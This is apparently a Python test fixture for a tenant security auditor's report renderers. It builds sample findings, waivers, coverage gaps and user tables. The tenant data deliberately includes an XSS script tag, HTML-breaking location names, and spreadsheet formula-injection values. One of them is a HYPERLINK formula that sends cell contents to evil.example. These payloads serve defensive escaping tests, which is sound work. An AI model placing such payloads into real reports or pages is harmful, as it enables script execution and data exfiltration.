"""A hand-built AuditResult and model with hostile tenant data, shared by the renderer tests.

``make_context`` builds the report context every renderer reads from ``make_result`` and ``make_model``;
together they exercise every part of a report: all severities, the four headline rules, a waived
finding, an expired waiver, a failed data source with a not-assessed rule, history (new/resolved), a
display name that tries to run script, and values a spreadsheet would treat as formulas.
"""

from __future__ import annotations

import re
from datetime import UTC, date, datetime
from types import SimpleNamespace
from typing import Any

import pandas as pd

from auditor.config import AuditorConfig
from auditor.engine import evaluate
from auditor.findings import AuditResult, Finding, RuleOutcome, RunInfo
from auditor.model import TenantModel, build_model
from auditor.render.context import ReportContext, build_report_context
from auditor.render.explorer import unpacked
from auditor.rules import REGISTRY
from auditor.rules.registry import headlines
from auditor.snapshot import Snapshot

XSS = "<script>window.__pwned = 1; alert(1)</script>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
RUN_START = datetime(2026, 3, 2, 7, 0, tzinfo=UTC)
FIRST_SEEN = datetime(2026, 2, 1, 7, 0, tzinfo=UTC)

RULES = [
    ("admin-app-passwords", "Admin can use app passwords", "high", ("users", "per_user_mfa")),
    ("daily-account-per-user-mfa", "Daily account on per-user MFA", "medium", ("users", "per_user_mfa")),
    ("smtp-auth-org-enabled", "SMTP AUTH enabled organisation-wide", "high", ("transport_config",)),
    (
        "smtp-auth-mailbox-enabled",
        "Mailbox allows SMTP AUTH",
        "medium",
        ("cas_mailboxes", "transport_config"),
    ),
    ("imap-pop-enabled", "Mailbox allows IMAP or POP", "low", ("cas_mailboxes",)),
    (
        "trusted-ips-duplicate-named-locations",
        "Trusted IPs duplicate a named location",
        "low",
        ("legacy_mfa_settings", "named_locations"),
    ),
    ("mfa-no-baseline", "No MFA baseline", "critical", ("security_defaults", "conditional_access")),
    ("legacy-auth-sign-ins", "Legacy authentication sign-ins", "high", ("sign_ins",)),
    ("stale-admin", "Stale admin", "medium", ("users", "sign_in_activity")),
    ("remember-mfa-long", "Remember MFA too long", "low", ("legacy_mfa_settings",)),
]


def _registry_meta(rule_id: str) -> dict[str, Any]:
    """The metadata the engine copies from the rule registry onto each outcome."""
    spec = REGISTRY.get(rule_id)
    if spec is None:
        return {}
    return {"detection": spec.detection, "escalation": spec.escalation, "headline": spec.headline, "sheet": spec.sheet}


def _outcomes(findings: list[Finding]) -> list[RuleOutcome]:
    out = []
    for rid, title, sev, needs in RULES:
        status, reason = "assessed", None
        if rid == "legacy-auth-sign-ins":
            status, reason = (
                "not_assessed",
                "sign_ins: failed: 403 Forbidden (needs AuditLog.Read.All and Entra ID P1)",
            )
        if rid == "remember-mfa-long":
            status = "disabled"
        out.append(
            RuleOutcome(
                id=rid,
                title=title,
                severity=sev,
                status=status,
                reason=reason,
                findings=sum(1 for f in findings if f.rule_id == rid),
                needs=needs,
                rationale=f"Why {rid} matters: attackers love it.",
                remediation=f"1. Fix {rid}.\n2. Verify it.",
                **_registry_meta(rid),
            )
        )
    return out


def _f(rule: str, sev: str, etype: str, eid: str, name: str, evidence: dict, **kw) -> Finding:
    title = next(t for r, t, _s, _n in RULES if r == rule)
    return Finding(
        rule_id=rule,
        severity=sev,
        entity_type=etype,
        entity_id=eid,
        entity_name=name,
        evidence=evidence,
        title=title,
        remediation=f"Fix {rule}",
        **kw,
    )


def make_result(extra_findings: int = 0) -> AuditResult:
    findings = [
        _f(
            "admin-app-passwords",
            "critical",
            "user",
            "u1",
            "ann@contoso.com",
            {
                "roles": ["Global Administrator"],
                "per_user_mfa": "enforced",
                "tenant_setting": True,
                "legacy_sign_ins": 4,
                "last_legacy": "2026-02-28T10:00:00Z",
                "protocols": ["IMAP4"],
                "confidence": "observed",
            },
            change="new",
            first_seen=RUN_START,
        ),
        _f(
            "admin-app-passwords",
            "high",
            "user",
            "u2",
            XSS,
            {
                "roles": ["Exchange Administrator"],
                "per_user_mfa": "enabled",
                "tenant_setting": "unknown",
                "confidence": "possible",
            },
            change="persisting",
            first_seen=FIRST_SEEN,
        ),
        _f(
            "daily-account-per-user-mfa",
            "medium",
            "user",
            "u3",
            FORMULA,
            {"per_user_mfa": "enforced", "job_title": "+SUM(1,2)"},
            change="persisting",
            first_seen=FIRST_SEEN,
        ),
        _f(
            "daily-account-per-user-mfa",
            "low",
            "user",
            "u4",
            "bob@contoso.com",
            {"per_user_mfa": "enabled"},
            status="waived",
            change="persisting",
            first_seen=FIRST_SEEN,
            waiver={
                "rule": "daily-account-per-user-mfa",
                "entity": "bob@contoso.com",
                "reason": "Legacy scanner until Q3",
                "approved_by": "ciso@contoso.com",
                "expires": date(2026, 9, 30),
            },
        ),
        _f(
            "smtp-auth-org-enabled",
            "high",
            "tenant",
            "tid-1",
            "contoso",
            {"SmtpClientAuthenticationDisabled": False},
            change="persisting",
            first_seen=FIRST_SEEN,
        ),
        _f(
            "smtp-auth-mailbox-enabled",
            "high",
            "mailbox",
            "m1",
            "ann@contoso.com",
            {"source": "inherited from org", "is_admin": True},
            change="new",
            first_seen=RUN_START,
        ),
        _f(
            "imap-pop-enabled",
            "low",
            "mailbox",
            "m2",
            "printer@contoso.com",
            {"protocols": ["IMAP", "POP"]},
            change="persisting",
            first_seen=FIRST_SEEN,
        ),
        _f(
            "trusted-ips-duplicate-named-locations",
            "low",
            "ip_range",
            "203.0.113.0/24",
            "203.0.113.0/24",
            {
                "legacy_range": "203.0.113.0/24",
                "matches": [
                    {
                        "named_location": "HQ </script><b>x</b>",
                        "location_id": "loc1",
                        "location_range": "203.0.113.0/25",
                        "overlap": "contains",
                        "is_trusted": True,
                    }
                ],
            },
            change="persisting",
            first_seen=FIRST_SEEN,
        ),
        _f(
            "mfa-no-baseline",
            "critical",
            "tenant",
            "tid-1",
            "contoso",
            {"security_defaults": False, "mfa_policies": 0},
            change="persisting",
            first_seen=FIRST_SEEN,
        ),
        _f(
            "stale-admin",
            "medium",
            "user",
            "u5",
            "@old-admin@contoso.com",
            {"last_sign_in": datetime(2025, 6, 1, tzinfo=UTC), "max_days": 90},
            change="persisting",
            first_seen=FIRST_SEEN,
        ),
    ]
    sevs = ["critical", "high", "medium", "low", "info"]
    for i in range(extra_findings):
        rule = RULES[i % 6][0]
        findings.append(
            _f(
                rule,
                sevs[i % 5],
                "user",
                f"bulk-{i}",
                f"user{i:06d}@contoso.com",
                {"per_user_mfa": "enabled", "index": i, "needle": f"needle-{i}"},
                change="persisting",
                first_seen=FIRST_SEEN,
            )
        )
    return AuditResult(
        tenant={
            "name": "contoso",
            "tenant_id": "tid-1",
            "default_domain": "contoso.com",
            "display_name": "Contoso <b>Ltd</b>",
        },
        run=RunInfo(
            id="run-123",
            started=RUN_START,
            finished=RUN_START,
            status="partial",
            errors=["sign_ins: 403 Forbidden"],
        ),
        coverage=[
            {"source": "users", "status": "collected", "items": 5, "reason": None},
            {
                "source": "sign_ins",
                "status": "failed",
                "items": 0,
                "reason": "403 Forbidden (needs AuditLog.Read.All and Entra ID P1)",
            },
        ],
        rules=_outcomes(findings),
        findings=findings,
        resolved=[{"rule_id": "imap-pop-enabled", "entity_id": "m9", "entity_name": "gone@contoso.com"}],
        expired_waivers=[
            {
                "rule": "stale-admin",
                "entity": "@old-admin@contoso.com",
                "reason": "project",
                "approved_by": "cio@contoso.com",
                "expires": date(2026, 1, 31),
            }
        ],
        previous_run_id="run-122",
        headlines=headlines(),
    )


def make_model() -> SimpleNamespace:
    """The model tables the entity sheets and the HTML IP table project (users, mailboxes, CA, IP ranges)."""
    users = pd.DataFrame(
        {
            "id": ["u1", "u2", "u3", "u4", "u5"],
            "upn": [
                "ann@contoso.com",
                "x@contoso.com",
                "u3@contoso.com",
                "bob@contoso.com",
                "old@contoso.com",
            ],
            "display_name": ["Ann", XSS, FORMULA, "Bob", "-Old admin"],
            "user_type": ["Member"] * 5,
            "enabled": [True] * 5,
            "is_guest": [False] * 5,
            "per_user_mfa": ["enforced", "enabled", "enforced", "enabled", None],
            "is_admin": [True, True, False, False, True],
            "admin_roles": [
                ["Global Administrator"],
                ["Exchange Administrator"],
                [],
                [],
                ["User Administrator"],
            ],
            "privileged_admin": [True, True, False, False, True],
            "role_assignment_kinds": [["active"], ["eligible"], [], [], ["via group Tier0"]],
            "is_service_account": [False, False, False, True, False],
            "service_signal": [None, None, None, "upn pattern", None],
            "is_daily": [True, True, True, False, True],
            "mfa_registered": [True, False, True, None, True],
            "methods": [["microsoftAuthenticatorPush"], [], ["sms"], [], ["fido2"]],
            "last_sign_in": pd.to_datetime(
                ["2026-03-01T10:00:00Z", None, "2026-02-20T09:00:00Z", None, "2025-06-01T00:00:00Z"], utc=True
            ),
            "has_mailbox": [True, False, False, True, False],
        }
    )
    mailboxes = pd.DataFrame(
        {
            "mailbox_id": ["m1", "m2"],
            "user_id": ["u1", None],
            "display_name": ["Ann", "Printer"],
            "smtp_address": ["ann@contoso.com", "printer@contoso.com"],
            "imap": [True, True],
            "pop": [False, True],
            "smtp_auth_setting": [None, True],
            "smtp_auth_enabled": [True, False],
            "smtp_auth_source": ["inherited from org", "mailbox"],
            "is_admin": [True, False],
        }
    )
    ca = pd.DataFrame(
        {
            "id": ["p1"],
            "name": ["Require MFA =cmd"],
            "state": ["enabled"],
            "requires_mfa": [True],
            "blocks_legacy": [False],
            "all_users": [True],
            "all_apps": [True],
            "include_users": [["All"]],
            "include_groups": [[]],
            "include_roles": [[]],
            "exclude_users": [["u4"]],
            "exclude_groups": [[]],
            "exclude_roles": [[]],
            "include_locations": [[]],
            "exclude_locations": [["loc1"]],
            "client_app_types": [["all"]],
            "grant_controls": [["mfa"]],
            "authentication_strength": [None],
        }
    )
    ip_ranges = pd.DataFrame(
        {
            "origin": ["named_location", "named_location", "legacy_trusted_ips"],
            "location_id": ["loc1", "loc1", None],
            "location_name": ["HQ </script><b>x</b>", "HQ </script><b>x</b>", None],
            "is_trusted": [True, True, False],
            "cidr": ["203.0.113.0/25", "2001:db8::/48", "203.0.113.0/24"],
            "version": [4, 6, 4],
            "prefixlen": [25, 48, 24],
        }
    )
    legacy = pd.DataFrame(
        {
            "user_id": ["u1"],
            "upn": ["ann@contoso.com"],
            "count": [4],
            "last": pd.to_datetime(["2026-02-28T10:00:00Z"], utc=True),
            "protocols": [["IMAP4"]],
            "ip_addresses": [["198.51.100.7"]],
            "failed": [1],
        }
    )
    return SimpleNamespace(
        users=users,
        mailboxes=mailboxes,
        ca_policies=ca,
        ip_ranges=ip_ranges,
        legacy_sign_ins=legacy,
        role_holdings=pd.DataFrame(),
    )


def evaluated(snapshot: Snapshot) -> tuple[AuditResult, TenantModel]:
    """The real stages on a snapshot with the default configuration: the result and the model it came from."""
    config = AuditorConfig()
    model = build_model(snapshot, config.classification, config.legacy_mfa)
    return evaluate(model, REGISTRY, config.rules, config.waivers, coverage=snapshot.coverage()), model


def make_context(extra_findings: int = 0) -> ReportContext:
    return build_report_context(make_result(extra_findings), make_model())  # type: ignore[arg-type]


def explorer_data(html: str) -> dict[str, Any]:
    """The findings explorer's embedded data, decoded (gzip + base64 inside a non-executed script block)."""
    match = re.search(r'<script type="application/octet-stream" id="findings-data">([A-Za-z0-9+/=]*)</script>', html)
    assert match, "no embedded findings data"
    return unpacked(match.group(1))
